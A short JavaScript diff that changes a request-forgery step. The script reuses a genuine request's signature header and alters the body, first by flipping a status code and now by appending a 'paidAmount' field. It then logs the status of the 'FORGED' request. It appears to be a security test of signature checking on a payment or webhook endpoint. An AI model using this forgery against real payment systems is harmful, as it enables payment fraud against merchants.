@@ -78,7 +78,7 @@ try {
       "X-SIGNATURE": genuine.headers["x-signature"],
       "X-EXTERNAL-ID": crypto.randomUUID(),
     },
-    body: genuine.body.toString("utf8").replace('"00"', '"01"'),
+    body: genuine.body.toString("utf8").replace(/}\s*$/, ',"paidAmount":"1.00"}'),
   });
   console.log(`FORGED ${forged.status}`);
 } catch (err) {
